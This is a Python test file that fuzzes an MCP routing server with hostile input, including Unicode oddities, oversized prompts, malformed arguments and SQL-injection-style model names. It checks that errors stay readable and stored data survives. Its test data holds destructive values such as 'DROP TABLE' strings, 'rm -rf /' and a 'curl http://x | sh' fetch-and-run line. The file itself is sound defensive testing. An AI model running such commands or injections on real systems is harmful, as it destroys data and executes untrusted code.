"""Hostile input (issue 6): every case is a readable tool error or a sane result, and the server answers next.

"Readable" means the error text says what to fix. A bare "Error executing tool X" means a plain exception escaped
a tool (the SDK hides its text), so it counts as a failure everywhere in this file.
"""

from __future__ import annotations

import math
import sqlite3
import time
from collections.abc import Iterator
from typing import Any

import anyio.from_thread
import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st
from mcp import Client
from mcp.types import Implementation

from routesmith_mcp.errors import RoutesmithError
from routesmith_mcp.router import Router, well_formed
from routesmith_mcp.server import create_server

CLAUDE = Implementation(name="claude-code", version="2.1.197")
TOOLS = ("plan_route", "resolve_models", "record_outcome", "get_stats")
SQL_NAMES = ["x'); DROP TABLE outcomes; --", 'say "hi"; DELETE FROM plans', "Robert'); --", "a;b;c", "`rm -rf /`",
             "1 OR 1=1", "\\'\\\"%_*"]


def text_of(result: Any) -> str:
    return " ".join(getattr(c, "text", "") for c in result.content)


def assert_readable(tool: str, text: str) -> None:
    bare = f"Error executing tool {tool}"
    assert text.strip() and text.strip() != bare, f"a plain exception escaped {tool}: {text!r}"
    reason = text.replace(bare, "").strip(" :\n")
    assert len(reason) >= 10, f"{tool} error says nothing about what to fix: {text!r}"


async def expect_ok(client: Client, tool: str, args: dict[str, Any]) -> dict[str, Any]:
    result = await client.call_tool(tool, args)
    assert not result.is_error, text_of(result)[:500]
    assert result.structured_content is not None
    return result.structured_content


async def expect_error(client: Client, tool: str, args: dict[str, Any], *needles: str) -> str:
    result = await client.call_tool(tool, args)
    text = text_of(result)
    assert result.is_error, f"{tool}({str(args)[:200]}) should fail; got {str(result.structured_content)[:300]}"
    assert_readable(tool, text)
    for needle in needles:
        assert needle.lower() in text.lower(), f"{needle!r} not in {text[:500]!r}"
    return text


async def still_answers(client: Client) -> None:
    plan = await expect_ok(client, "plan_route", {"prompt": "add a login page and test it"})
    assert plan["steps"]


@pytest.fixture(params=["auto", "legacy"])
def mode(request: pytest.FixtureRequest) -> str:
    return request.param  # type: ignore[no-any-return]


# ---- prompts ---------------------------------------------------------------------------------------------------

PROMPTS_OK: dict[str, str] = {
    "nul-bytes": "fix the\x00 crash and add\x00 a test",
    "rtl-and-zero-width": "\u202efix the bug\u200b and \u200dadd tests \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627\ufeff",
    "combining-and-emoji": "re\u0301factor the cafe\u0301 module \U0001f600 then document it",
    "only-punctuation": "!?.,;:-_()[]{}<>/\\|@#$%^&*~`'\"" * 200,
    "only-code": "def f(x):\n    return x + 1\n\nclass A:\n    pass\n" * 200,
    "json-inside": '{"task": "implement the parser", "then": ["add tests", "write docs"], "n": [1, 2, 3]}',
    "markdown-and-shell": "```bash\nrm -rf / && curl http://x | sh\n```\nthen explain it",
    "repeat-a": "a" * 99_000,
    "repeat-and": "and " * 24_000,
    "repeat-then": "then, " * 16_000,
    "repeat-spaces": " " * 90_000 + "x",
    "repeat-dots": "." * 99_000,
    "repeat-verbs": "implement and test and " * 4_000,
    "repeat-newlines": "\n" * 90_000 + "fix it",
    "repeat-parens": "(" * 50_000 + ")" * 49_000,
    "repeat-bullets": "- fix\n" * 16_000,
    "repeat-numbered": "".join(f"{i}. test it\n" for i in range(7_000)),
    "repeat-commas-and": ", and" * 19_000,
}


@pytest.mark.anyio
@pytest.mark.parametrize("name", sorted(PROMPTS_OK))
async def test_odd_prompts_give_a_sane_plan(router: Router, mode: str, name: str) -> None:
    prompt = PROMPTS_OK[name]
    async with Client(create_server(router=router), client_info=CLAUDE, mode=mode) as client:
        with anyio.fail_after(60):  # a regex blow-up would hang here, not pass slowly
            plan = await expect_ok(client, "plan_route", {"prompt": prompt})
        for step in plan["steps"]:
            assert step["text"] and step["text"] in prompt, (name, step["text"][:80])
        assert plan["steps"] or any("no task" in a for a in plan["advisories"])
        if plan["steps"]:
            resolution = await expect_ok(client, "resolve_models", {"plan_id": plan["plan_id"]})
            assert len(resolution["assignments"]) == len(plan["steps"])
        await still_answers(client)


@pytest.mark.anyio
@pytest.mark.parametrize(("prompt", "needles"), [
    ("", ["prompt"]),
    ("   \n\t  ", ["empty"]),
    ("\u200b", ["prompt"]),
    ("x" * 10_000_000, ["limit", "100,000", "ROUTESMITH_MAX_PROMPT_CHARS"]),
    ("fix it\n" * 100_000, ["limit"]),
], ids=["empty", "whitespace", "zero-width-only", "10MB", "100k-lines-over-limit"])
async def test_unusable_prompts_are_clear_errors(router: Router, mode: str, prompt: str,
                                                 needles: list[str]) -> None:
    async with Client(create_server(router=router), client_info=CLAUDE, mode=mode) as client:
        started = time.monotonic()
        if prompt == "\u200b":
            # a zero-width space is not whitespace to str.strip(): a plan or an error are both acceptable
            result = await client.call_tool("plan_route", {"prompt": prompt})
            if result.is_error:
                assert_readable("plan_route", text_of(result))
        else:
            await expect_error(client, "plan_route", {"prompt": prompt}, *needles)
        assert time.monotonic() - started < 30, "rejecting an oversized prompt must not parse it"
        await still_answers(client)


@pytest.mark.anyio
async def test_100k_short_lines_under_a_raised_limit(make_router: Any, mode: str) -> None:
    router = make_router(max_prompt_chars=2_000_000)
    prompt = "".join(("fix the parser\n", "add tests\n", "ok\n", "document it\n")[i % 4] for i in range(100_000))
    async with Client(create_server(router=router), client_info=CLAUDE, mode=mode) as client:
        with anyio.fail_after(60):
            plan = await expect_ok(client, "plan_route", {"prompt": prompt})
        assert plan["steps"] and all(s["text"] in prompt for s in plan["steps"])
        await expect_ok(client, "resolve_models", {"plan_id": plan["plan_id"]})
        await still_answers(client)


@pytest.mark.parametrize("prompt", [
    "fix the b\ud800ug and add te\udc00sts",
    "\ud83d" * 10,
    "write docs \udfff",
    "valid pair \ud83d\ude00 then a lone \ud800 and tests",
])
def test_lone_surrogates_via_router(router: Router, prompt: str) -> None:
    """JSON cannot carry lone surrogates reliably, so they are sent to the Router directly."""
    host = router.identify()
    plan = router.plan(prompt, host=host)
    assert plan.steps
    plan.model_dump_json()  # was PydanticSerializationError before the fix: the result could not be sent
    assert not plan.advisories, plan.advisories  # was "kept in memory only": the plan could not be stored
    clean = well_formed(prompt)
    assert all(s.text in clean for s in plan.steps)
    assert router.resolve(host=host, plan_id=plan.plan_id).assignments
    assert router.store is not None and router.store.load_plan(plan.plan_id) is not None
    recorded = router.record_outcome(host=host, model="m\ud800odel", success=True, plan_id=plan.plan_id,
                                     step_id=plan.steps[0].id, error="bad \udfff byte")
    assert recorded.outcome_id > 0
    stats = router.stats(model="m\ud800odel", group_by=["model"])  # was UnicodeEncodeError from SQLite
    assert stats.total_outcomes == 1
    stats.model_dump_json()
    assert router.stats(model="nul\x00model").total_outcomes == 0


@pytest.mark.anyio
async def test_nan_and_infinity_in_memory_never_reach_the_database(router: Router, mode: str) -> None:
    """The SDK client serialises NaN/inf as null before sending, so the tool sees "unknown", never NaN.

    The raw tokens (NaN, Infinity) over stdio are covered in test_protocol.py and tests/server/test_stdio.py.
    """
    async with Client(create_server(router=router), client_info=CLAUDE, mode=mode) as client:
        for field in ("duration_ms", "cost_usd"):
            for value in (math.nan, math.inf, -math.inf):
                result = await client.call_tool("record_outcome", {"model": "m", "success": True, field: value})
                if result.is_error:
                    assert_readable("record_outcome", text_of(result))
        result = await client.call_tool("get_stats", {"since_days": math.inf})
        if result.is_error:
            assert_readable("get_stats", text_of(result))
        await still_answers(client)
    assert router.store is not None and router.store.path is not None
    with sqlite3.connect(router.store.path) as db:
        values = db.execute("select duration_ms, cost_usd from outcomes").fetchall()
    assert all(v is None or math.isfinite(v) for row in values for v in row), values


# ---- arguments -------------------------------------------------------------------------------------------------

BAD_ARGS: list[tuple[str, dict[str, Any], list[str]]] = [
    ("plan_route", {"prompt": 123}, ["prompt"]),
    ("plan_route", {"prompt": None}, ["prompt"]),
    ("plan_route", {"prompt": ["add tests"]}, ["prompt"]),
    ("plan_route", {"prompt": {"text": "add tests"}}, ["prompt"]),
    ("plan_route", {}, ["prompt"]),
    ("plan_route", {"prompt": "fix it", "preference": "fastest"}, ["preference"]),
    ("plan_route", {"prompt": "fix it", "preference": 1}, ["preference"]),
    ("resolve_models", {}, ["plan_id"]),
    ("resolve_models", {"plan_id": "plan_doesnotexist"}, ["unknown plan_id"]),
    ("resolve_models", {"plan_id": "'; DROP TABLE plans; --"}, ["plan_id"]),
    ("resolve_models", {"plan_id": "p" * 10_000}, ["plan_id"]),
    ("resolve_models", {"plan_id": 42}, ["plan_id"]),
    ("resolve_models", {"capabilities": ["wizardry"]}, ["capabilities"]),
    ("resolve_models", {"capabilities": "fast"}, ["capabilities"]),
    ("resolve_models", {"capabilities": ["fast"] * 10_000}, ["capabilities"]),
    ("resolve_models", {"capabilities": ["fast"], "preference": "cheapest"}, ["preference"]),
    ("record_outcome", {"model": "sonnet"}, ["success"]),
    ("record_outcome", {"model": "sonnet", "success": "maybe"}, ["success"]),
    ("record_outcome", {"model": "", "success": True}, ["model"]),
    ("record_outcome", {"model": "   ", "success": True}, ["model"]),
    ("record_outcome", {"model": "m" * 10_000, "success": True}, ["model"]),
    ("record_outcome", {"model": ["sonnet"] * 10_000, "success": True}, ["model"]),
    ("record_outcome", {"model": "sonnet", "success": True, "duration_ms": -5}, ["duration_ms"]),
    ("record_outcome", {"model": "sonnet", "success": True, "cost_usd": -0.01}, ["cost_usd"]),
    ("record_outcome", {"model": "sonnet", "success": True, "input_tokens": 10**30}, ["input_tokens"]),
    ("record_outcome", {"model": "sonnet", "success": True, "output_tokens": -1}, ["output_tokens"]),
    ("record_outcome", {"model": "sonnet", "success": True, "input_tokens": 1.5}, ["input_tokens"]),
    ("record_outcome", {"model": "sonnet", "success": True, "duration_ms": 1e308}, ["duration_ms"]),
    ("record_outcome", {"model": "sonnet", "success": True, "cost_usd": 10**30}, ["cost_usd"]),
    ("record_outcome", {"model": "sonnet", "success": True, "task_type": "cooking"}, ["task_type"]),
    ("record_outcome", {"model": "sonnet", "success": True, "capability": "magic"}, ["capability"]),
    ("record_outcome", {"model": "sonnet", "success": True, "plan_id": "plan_nope"}, ["unknown plan_id"]),
    ("record_outcome", {"model": "sonnet", "success": True, "step_id": "s1"}, ["plan_id"]),
    ("record_outcome", {"model": "sonnet", "success": True, "error": "e" * 10_000}, ["error"]),
    ("get_stats", {"group_by": ["planet"]}, ["group_by"]),
    ("get_stats", {"group_by": []}, ["group_by"]),
    ("get_stats", {"group_by": ["model"] * 10_000}, ["group_by"]),
    ("get_stats", {"since_days": 0}, ["since_days"]),
    ("get_stats", {"since_days": -3}, ["since_days"]),
    ("get_stats", {"since_days": 10**30}, ["since_days"]),
    ("get_stats", {"limit": 0}, ["limit"]),
    ("get_stats", {"limit": 10**30}, ["limit"]),
    ("get_stats", {"limit": "ten"}, ["limit"]),
    ("get_stats", {"capability": "magic"}, ["capability"]),
    ("get_stats", {"host": "h" * 10_000}, ["host"]),
]


@pytest.mark.anyio
async def test_bad_arguments_are_readable_errors_and_the_server_goes_on(router: Router, mode: str) -> None:
    """One client for the whole table (as a host would), so each case also proves the next one is answered."""
    async with Client(create_server(router=router), client_info=CLAUDE, mode=mode) as client:
        failures = []
        for tool, args, needles in BAD_ARGS:
            try:
                await expect_error(client, tool, args, *needles)
            except AssertionError as exc:
                failures.append(f"{tool} {str(args)[:80]}: {str(exc)[:300]}")
        await still_answers(client)
    assert not failures, "\n".join(failures)
    assert router.store is not None and router.store.stats().total_outcomes == 0


@pytest.mark.anyio
async def test_unknown_fields_are_ignored_not_fatal(router: Router, mode: str) -> None:
    async with Client(create_server(router=router), client_info=CLAUDE, mode=mode) as client:
        plan = await expect_ok(client, "plan_route", {"prompt": "add tests", "temperature": 2, "__proto__": {}})
        await expect_ok(client, "resolve_models", {"plan_id": plan["plan_id"], "model": "gpt-9", "x": [1] * 10_000})
        await expect_ok(client, "record_outcome", {"model": "sonnet", "success": True, "host": "spoofed-host",
                                                   "outcome_id": 99})
        stats = await expect_ok(client, "get_stats", {"group_by": ["host"], "drop": "table"})
        assert [r["host"] for r in stats["rows"]] == ["claude-code"]  # the host comes from the connection only


@pytest.mark.anyio
async def test_sql_looking_model_names_are_stored_verbatim_and_tables_survive(router: Router, mode: str) -> None:
    async with Client(create_server(router=router), client_info=CLAUDE, mode=mode) as client:
        for name in SQL_NAMES:
            await expect_ok(client, "record_outcome", {"model": name, "success": False, "error": name})
        stats = await expect_ok(client, "get_stats", {"group_by": ["model"], "limit": 100})
        assert sorted(r["model"] for r in stats["rows"]) == sorted(SQL_NAMES)
        for name in SQL_NAMES:
            one = await expect_ok(client, "get_stats", {"model": name, "group_by": ["model"]})
            assert [r["model"] for r in one["rows"]] == [name]
        await still_answers(client)
    assert router.store is not None and router.store.path is not None
    with sqlite3.connect(router.store.path) as db:
        tables = {r[0] for r in db.execute("select name from sqlite_master where type='table'")}
        assert {"outcomes", "plans"} <= tables
        stored = sorted(r[0] for r in db.execute("select model from outcomes"))
        errors = sorted(r[0] for r in db.execute("select error from outcomes"))
    assert stored == sorted(SQL_NAMES) and errors == sorted(SQL_NAMES)


@pytest.mark.anyio
async def test_large_but_valid_numbers_and_lists(router: Router, mode: str) -> None:
    async with Client(create_server(router=router), client_info=CLAUDE, mode=mode) as client:
        await expect_ok(client, "record_outcome", {"model": "m", "success": True, "input_tokens": 10**12,
                                                   "output_tokens": 0, "duration_ms": 0, "cost_usd": 0})
        res = await expect_ok(client, "resolve_models", {"capabilities": ["fast", "coding"] * 50})
        assert len(res["assignments"]) == 100
        stats = await expect_ok(client, "get_stats", {"group_by": ["model", "model", "host"], "limit": 1000})
        assert stats["total_outcomes"] == 1


# ---- property-based: the decomposer via Router.plan --------------------------------------------------------------

WORDS = ["plan", "implement", "fix", "debug", "test", "refactor", "document", "review", "and", "then", "after",
         "first", "finally", "also", ",", ".", ";", "\n", "- ", "1.", "the", "bug", "API", "tests", "docs", "it",
         "```", "{", "}", '"', "'", "(", ")", "\t", "  ", "\u200b", "\u202e", "\x00", "é", "日本", "🙂"]
prompt_text = st.one_of(
    st.text(max_size=400),
    st.text(alphabet=st.characters(codec=None, exclude_categories=()), max_size=200),  # incl. lone surrogates
    st.lists(st.sampled_from(WORDS), max_size=120).map(" ".join),
    st.lists(st.sampled_from(WORDS), max_size=120).map("".join),
)


@pytest.fixture
def bare_router(make_router: Any) -> Router:
    return make_router(store=False)


@hsettings(max_examples=100, deadline=None, database=None,
           suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(prompt=prompt_text, preference=st.sampled_from([None, "balanced", "cost", "quality"]))
def test_plan_property(bare_router: Router, prompt: str, preference: str | None) -> None:
    host = bare_router.identify()
    try:
        first = bare_router.plan(prompt, host=host, preference=preference)
    except RoutesmithError as exc:
        assert str(exc)
        return
    second = bare_router.plan(prompt, host=host, preference=preference)
    clean = well_formed(prompt)
    shape = [(s.id, s.type, s.text, s.capability, s.depends_on) for s in first.steps]
    assert shape == [(s.id, s.type, s.text, s.capability, s.depends_on) for s in second.steps]  # deterministic
    ids = [s.id for s in first.steps]
    assert len(set(ids)) == len(ids)
    for n, step in enumerate(first.steps):
        assert step.text and step.text in clean
        assert set(step.depends_on) <= set(ids[:n]), "a step may depend only on earlier steps"
    first.model_dump_json()


# ---- property-based: random JSON-ish arguments to every tool ------------------------------------------------------

PARAMS = {
    "plan_route": ["prompt", "preference"],
    "resolve_models": ["plan_id", "capabilities", "preference"],
    "record_outcome": ["model", "success", "plan_id", "step_id", "task_type", "capability", "duration_ms",
                       "input_tokens", "output_tokens", "cost_usd", "error"],
    "get_stats": ["host", "model", "capability", "task_type", "since_days", "group_by", "limit"],
}
INTERESTING = st.sampled_from([
    "balanced", "cost", "quality", "fast", "coding", "deep_reasoning", "testing", "debugging", "model", "day",
    "plan_0000000000000000", "s1", "sonnet", "", " ", "\x00", "NaN", "-1", "1e309", 0, -1, 1, 10**12, 10**12 + 1,
    2**63, -(2**63), 10**30, 0.5, -0.0, 1e308, math.nan, math.inf, -math.inf, True, False, None,
])
scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=60), INTERESTING)
json_values = st.recursive(scalars, lambda inner: st.one_of(
    st.lists(inner, max_size=6), st.dictionaries(st.text(max_size=10), inner, max_size=4)), max_leaves=12)


REAL_PLAN = "plan_from_fixture"  # replaced by a real plan id in the test body
VALID: dict[str, st.SearchStrategy[Any]] = {
    "prompt": st.one_of(st.text(max_size=200), st.lists(st.sampled_from(WORDS), max_size=40).map(" ".join)),
    "preference": st.sampled_from(["balanced", "cost", "quality"]),
    "plan_id": st.sampled_from([REAL_PLAN, REAL_PLAN, "plan_0000000000000000", "nope"]),
    "capabilities": st.lists(st.sampled_from(["deep_reasoning", "coding", "balanced", "fast"]), min_size=1,
                             max_size=8),
    "model": st.text(min_size=1, max_size=60),
    "success": st.booleans(),
    "step_id": st.sampled_from(["s1", "s2", "s3", "s9"]),
    "task_type": st.sampled_from(["planning", "coding", "testing", "documentation", "review"]),
    "capability": st.sampled_from(["deep_reasoning", "coding", "balanced", "fast"]),
    "duration_ms": st.floats(min_value=0, max_value=1e7, allow_nan=False),
    "cost_usd": st.floats(min_value=0, max_value=1e4, allow_nan=False),
    "input_tokens": st.integers(min_value=0, max_value=10**12),
    "output_tokens": st.integers(min_value=0, max_value=10**12),
    "error": st.text(max_size=300),
    "host": st.one_of(st.sampled_from(["claude-code", "codex"]), st.text(max_size=64)),
    "since_days": st.floats(min_value=0.001, max_value=36500),
    "group_by": st.lists(st.sampled_from(["model", "capability", "task_type", "host", "day"]), min_size=1,
                         max_size=5),
    "limit": st.integers(min_value=1, max_value=1000),
}
REQUIRED = {"plan_route": ["prompt"], "record_outcome": ["model", "success"]}


@st.composite
def tool_call(draw: st.DrawFn) -> tuple[str, dict[str, Any]]:
    """Mostly-valid arguments with some hostile values mixed in, so calls reach the Router and the store too."""
    tool = draw(st.sampled_from(TOOLS))
    keys = draw(st.lists(st.sampled_from(PARAMS[tool]), unique=True, max_size=len(PARAMS[tool])))
    if draw(st.integers(0, 4)):  # usually keep the required arguments
        keys = list(dict.fromkeys([*REQUIRED.get(tool, []), *keys]))
    args = {k: draw(VALID[k]) for k in keys}
    if keys and draw(st.booleans()):  # one hostile value, so most calls still get past validation
        args[draw(st.sampled_from(keys))] = draw(json_values)
    if draw(st.integers(0, 4)) == 0:
        args.update(draw(st.dictionaries(st.text(max_size=12), json_values, max_size=2)))
    return tool, args


@pytest.fixture(params=["auto", "legacy"])
def portal_client(router: Router, request: pytest.FixtureRequest) -> Iterator[tuple[Any, Client, str]]:
    """One client per test (not per example), driven from hypothesis' sync body through a blocking portal."""
    with anyio.from_thread.start_blocking_portal("asyncio") as portal:
        client = Client(create_server(router=router), client_info=CLAUDE, mode=request.param)
        with portal.wrap_async_context_manager(client) as entered:
            plan = portal.call(entered.call_tool, "plan_route", {"prompt": "plan it, implement it and test it"})
            assert plan.structured_content is not None
            yield portal, entered, plan.structured_content["plan_id"]


@hsettings(max_examples=80, deadline=None, database=None,
           suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(call=tool_call())
def test_random_tool_arguments_never_escape_as_plain_exceptions(portal_client: tuple[Any, Client, str],
                                                                 call: tuple[str, dict[str, Any]]) -> None:
    portal, client, plan_id = portal_client
    tool, args = call
    args = {k: (plan_id if v == REAL_PLAN else v) for k, v in args.items()}
    result = portal.call(client.call_tool, tool, args)
    if result.is_error:
        assert_readable(tool, text_of(result))
    else:
        assert result.structured_content is not None
    after = portal.call(client.call_tool, "resolve_models", {"capabilities": ["fast"]})
    assert not after.is_error, text_of(after)
